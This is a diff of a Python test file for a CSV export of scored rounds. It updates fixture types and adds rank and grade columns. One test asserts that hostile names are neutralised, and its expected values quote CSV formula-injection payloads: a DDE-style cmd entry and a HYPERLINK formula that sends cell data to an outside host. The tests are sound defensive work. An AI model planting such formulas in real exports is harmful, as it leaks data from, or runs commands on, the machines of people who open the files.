@@ -5,13 +5,13 @@ import io
 
 import pytest
 
+from tests.publishing.conftest import Assessed
 from toolkit.publishing.table import neutralised, round_csv
-from toolkit.scoring.rounds import ScoredRound
 
 CODES = ["C1", "C2", "C3", "C4", "C5", "C6", "C7"]
 HEAD = ["unit", "name_zh", "name_en", "class", "status", "demo"]
 COLUMNS = [*HEAD, *(f"{code}_{side}" for code in CODES for side in ("claimed", "verified"))]
-COLUMNS += ["claimed_total", "total"]
+COLUMNS += ["claimed_total", "total", "rank", "grade"]
 
 
 def rows(raw: bytes) -> list[dict[str, str]]:
@@ -19,17 +19,17 @@ def rows(raw: bytes) -> list[dict[str, str]]:
 
 
 def test_the_file_begins_with_a_mark_and_ends_its_lines_as_windows_does(
-    demo_round: ScoredRound,
+    demo_round: Assessed,
 ) -> None:
-    raw = round_csv(demo_round)
+    raw = round_csv(demo_round[0])
     assert raw.startswith(b"\xef\xbb\xbfunit,name_zh,name_en,")
     assert raw.count(b"\xef\xbb\xbf") == 1
     assert raw.endswith(b"\r\n")
     assert raw.count(b"\r\n") == raw.count(b"\n") == raw.count(b"\r") == 7
 
 
-def test_a_row_for_each_unit_in_the_order_of_the_register(demo_round: ScoredRound) -> None:
-    reader = csv.DictReader(io.StringIO(round_csv(demo_round).decode("utf-8-sig"), newline=""))
+def test_a_row_for_each_unit_in_the_order_of_the_register(demo_round: Assessed) -> None:
+    reader = csv.DictReader(io.StringIO(round_csv(demo_round[0]).decode("utf-8-sig"), newline=""))
     assert reader.fieldnames == COLUMNS
     assert [row["unit"].removeprefix("keqiao-demo-") for row in reader] == [
         *["loom", "dyeing", "garden"],
@@ -37,8 +37,8 @@ def test_a_row_for_each_unit_in_the_order_of_the_register(demo_round: ScoredRoun
     ]
 
 
-def test_the_numbers_of_a_row(demo_round: ScoredRound) -> None:
-    loom = rows(round_csv(demo_round))[0]
+def test_the_numbers_of_a_row(demo_round: Assessed) -> None:
+    loom = rows(round_csv(demo_round[0]))[0]
     assert loom == {
         **{"unit": "keqiao-demo-loom", "demo": "true", "class": "1类", "status": "已核定"},
         **{"name_zh": "示例·智能织机学会", "name_en": "Demo Society for Smart Looms"},
@@ -49,12 +49,12 @@ def test_the_numbers_of_a_row(demo_round: ScoredRound) -> None:
         **{"C5_claimed": "10.00", "C5_verified": "10.00"},
         **{"C6_claimed": "0.00", "C6_verified": "0.00"},
         **{"C7_claimed": "10.00", "C7_verified": "9.75"},
-        **{"claimed_total": "90.00", "total": "82.25"},
+        **{"claimed_total": "90.00", "total": "82.25", "rank": "", "grade": ""},
     }
 
 
-def test_a_score_that_does_not_exist_is_an_empty_cell(demo_round: ScoredRound) -> None:
-    by_unit = {row["unit"]: row for row in rows(round_csv(demo_round))}
+def test_a_score_that_does_not_exist_is_an_empty_cell(demo_round: Assessed) -> None:
+    by_unit = {row["unit"]: row for row in rows(round_csv(demo_round[0]))}
     garden = by_unit["keqiao-demo-garden"]
     assert {garden[f"{code}_verified"] for code in CODES} | {garden["total"]} == {""}
     assert garden["C1_claimed"] == "15.00"
@@ -66,9 +66,9 @@ def test_a_score_that_does_not_exist_is_an_empty_cell(demo_round: ScoredRound) -
 
 
 def test_dangerous_names_are_neutralised_and_nothing_else_changes(
-    hostile_round: ScoredRound, demo_round: ScoredRound
+    hostile_round: Assessed, demo_round: Assessed
 ) -> None:
-    hostile, tame = rows(round_csv(hostile_round)), rows(round_csv(demo_round))
+    hostile, tame = rows(round_csv(hostile_round[0])), rows(round_csv(demo_round[0]))
     food = hostile[4]
     assert food["name_zh"] == '\'＝cmd|甲, "乙"'
     assert food["name_en"] == '\'=HYPERLINK("http://x.org?"&A1,"go, on")'
